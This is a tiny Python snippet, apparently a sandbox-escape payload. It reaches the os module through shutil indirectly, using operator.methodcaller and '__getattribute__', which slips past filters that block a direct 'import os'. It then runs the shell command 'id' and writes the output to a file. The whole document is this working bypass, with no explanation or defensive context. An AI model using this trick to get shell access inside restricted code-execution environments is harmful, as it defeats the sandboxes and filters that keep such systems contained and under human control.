import operator, shutil
run = operator.methodcaller
run("__getattribute__", "os")(shutil).system("id>pf")
